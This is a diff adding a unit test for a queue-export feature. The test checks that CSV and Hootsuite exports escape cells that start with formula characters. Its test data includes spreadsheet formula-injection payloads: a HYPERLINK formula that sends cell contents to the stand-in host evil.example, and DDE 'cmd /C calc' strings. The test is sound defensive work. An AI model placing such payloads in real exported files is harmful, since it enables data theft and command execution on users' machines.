@@ -53,4 +53,27 @@ describe('queue export', () => {
     expect(json).toMatchObject({ format: 'persona-curator/queue', version: 1 });
     expect(json.items).toHaveLength(6);
   });
+
+  it('never hands a spreadsheet a formula: cells starting with = + - @ tab or CR are escaped, in both CSV layouts', () => {
+    const evil = '=HYPERLINK("https://evil.example/?"&A1,"open")';
+    const hostile = [
+      item(1, { title: evil, quote: '+cmd|" /C calc"!A0', siteName: '@SUM(1+1)*cmd|" /C calc"!A0', personaName: '-2+3' }),
+      // A line break after the formula: papaparse's default pattern (".*$") would let this one through.
+      item(2, { title: '=HYPERLINK("https://evil.example/?"&A1,"open\nnow")', quote: '\t=1+1', siteName: '\r=1+1' }),
+    ];
+    const csv = Papa.parse<Record<string, string>>(exportQueue(hostile, 'csv', voices).content, { header: true }).data;
+    expect(csv[0]!.title).toBe(`'${evil}`);
+    expect(csv[0]!.quote).toBe(`'+cmd|" /C calc"!A0`);
+    expect(csv[0]!.site).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
+    expect(csv[0]!.persona).toBe("'-2+3");
+    expect(csv[1]!.title).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"open\nnow")`);
+    expect(csv[1]!.quote).toBe("'\t=1+1");
+    expect(csv[1]!.site).toBe("'\r=1+1");
+    // No cell of either file starts with a character a spreadsheet reads as the start of a formula.
+    const hootsuite = Papa.parse<string[]>(exportQueue([item(1, { title: evil, quote: '' }), item(2, { title: '@foo', quote: '' })], 'hootsuite', new Map()).content).data;
+    for (const row of [...hootsuite, ...csv.map((r) => Object.values(r))]) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // Ordinary cells are untouched: the score stays a number, the titles, links and dates as they were.
+    expect(csv[0]!.score).toBe('0.5');
+    expect(Papa.parse<Record<string, string>>(exportQueue(items, 'csv', voices).content, { header: true }).data[0]!.title).toBe(items[0]!.title);
+  });
 });
